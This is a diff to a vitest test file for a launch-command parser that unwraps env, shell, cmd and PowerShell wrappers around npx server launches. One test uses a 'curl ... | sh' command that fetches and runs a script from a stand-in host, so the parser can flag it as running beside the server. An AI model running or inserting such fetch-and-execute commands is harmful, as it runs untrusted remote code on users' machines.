@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { launchTarget, mapLaunch } from "../../src/clientconfig/launch.js";
+import { launchTarget, mapLaunch, unwrapLaunch } from "../../src/clientconfig/launch.js";
 
 describe("mapLaunch", () => {
   it.each([
@@ -45,8 +45,65 @@ describe("mapLaunch", () => {
   });
 
   it.each([
-    ["git spec", "npx", ["github:o/r"], "git"],
-    ["local folder", "npx", ["./server"], "directory"],
+    ["github shorthand", ["github:o/r"], "git"],
+    ["owner/repo", ["-y", "o/r"], "git"],
+    ["git url", ["git+https://example.com/x.git"], "git"],
+    ["https tarball", ["-y", "https://example.com/x.tgz"], "remote"],
+    ["local folder", ["./server"], "directory"],
+    ["local tarball", ["/tmp/x.tgz"], "file"],
+  ])("not from a registry: %s", (_n, args, source) => {
+    expect(mapLaunch("npx", args)).toMatchObject({ kind: "npm-url", source, runner: "npx" });
+  });
+
+  it.each([
+    ["env with assignments", "env", ["FOO=1", "npx", "-y", "p@1.0.0"], ["env"], 3],
+    ["env -i -u X", "/usr/bin/env", ["-i", "-u", "HOME", "npx", "-y", "p@1.0.0"], ["env"], 5],
+    ["env -S string", "env", ["-S", "npx -y p@1.0.0"], ["env -S"], -1],
+    ["exec", "exec", ["npx", "-y", "p@1.0.0"], ["exec"], 2],
+    ["timeout 30", "timeout", ["30", "npx", "-y", "p@1.0.0"], ["timeout"], 3],
+    ["bash -lc", "bash", ["-lc", "npx -y p@1.0.0"], ["bash -lc"], -1],
+    ["bash -l -c", "bash", ["-l", "-c", "exec npx -y 'p@1.0.0'"], ["bash -c", "exec"], -1],
+    ["zsh -c with setup", "zsh", ["-c", "source ~/.nvm/nvm.sh && cd /srv && npx -y p@1.0.0"], ["zsh -c"], -1],
+    ["cmd /d /s /c string", "cmd.exe", ["/d", "/s", "/c", "npx -y p@1.0.0"], ["cmd /c"], -1],
+    ["powershell -Command", "pwsh", ["-NoProfile", "-Command", "npx -y p@1.0.0"], ["pwsh -Command"], -1],
+    ["command with its arguments", "npx -y p@1.0.0", [], ["command with arguments"], -1],
+    [
+      "env inside bash",
+      "bash",
+      ["-c", "env npm_config_ignore_scripts=true npx -y p@1.0.0"],
+      ["bash -c", "env"],
+      -1,
+    ],
+    ["npm flags before exec", "npm", ["--yes", "exec", "p@1.0.0"], [], 2],
+    ["npx-cli.js by path", "node", ["/usr/lib/node_modules/npm/bin/npx-cli.js", "-y", "p@1.0.0"], [], 2],
+  ])("unwraps %s", (_n, command, args, wrappers, specIndex) => {
+    const u = unwrapLaunch(command, args);
+    expect(u.launch).toMatchObject({ kind: "npm", name: "p", spec: "p@1.0.0", specIndex });
+    expect(u.wrappers).toEqual(wrappers);
+  });
+
+  it("keeps env set by a wrapper or the shell string", () => {
+    expect(mapLaunch("bash", ["-c", "export npm_config_ignore_scripts=true; npx -y p@1.0.0"])).toMatchObject({
+      ignoreScripts: true,
+    });
+    expect(mapLaunch("env", ["npm_config_ignore_scripts=1", "npx", "-y", "p"])).toMatchObject({
+      ignoreScripts: true,
+    });
+  });
+
+  it("lists what a shell string runs beside the server", () => {
+    const u = unwrapLaunch("sh", ["-c", "curl -s https://x.example/i.sh | sh; npx -y p@1.0.0 & calc"]);
+    expect(u.launch).toMatchObject({ kind: "npm", name: "p" });
+    expect(u.alsoRuns).toEqual(["curl -s https://x.example/i.sh", "sh", "calc"]);
+  });
+
+  it("gives up on wrapping past its depth, never looping", () => {
+    let cmd = "npx -y p";
+    for (let i = 0; i < 20; i++) cmd = `sh -c ${JSON.stringify(cmd)}`;
+    expect(mapLaunch("sh", ["-c", cmd]).kind).toBe("unknown");
+  });
+
+  it.each([
     ["no package", "npx", ["-y"], "without a package"],
     ["unparseable", "npx", ["-y", "Bad Name!"], "cannot parse"],
     ["docker build", "docker", ["build", "."], "not `docker run`"],
